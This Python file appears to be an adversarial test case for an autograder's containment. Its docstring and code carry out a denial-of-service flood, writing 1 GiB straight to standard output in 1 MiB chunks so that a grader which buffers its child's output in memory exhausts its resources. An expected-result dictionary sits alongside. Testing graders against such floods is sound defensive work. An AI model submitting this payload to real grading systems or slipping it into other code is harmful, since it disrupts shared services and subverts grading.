"""Containment: a 1 GiB flood on stdout (file descriptor 1).

Attack: write 1 GiB straight to fd 1 (past any Python-level redirection of sys.stdout); a grader
that keeps all of its child's output in a file and then reads it into memory holds 1 GiB (and
its decoded copy) per grading. DAMAGE BOUND: stops at 1 GiB, in 1 MiB writes.
Old grader: see BASELINE.md.
"""
EXPECT = {"max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": []}

import os as _os
import sys as _sys

if not getattr(_sys, "_adv_flood", False):
    _sys._adv_flood = True
    _chunk = (b"flood " * 174762 + b"\n")[: 2**20]
    try:
        for _ in range(1024):
            _os.write(1, _chunk)
    except OSError:
        pass
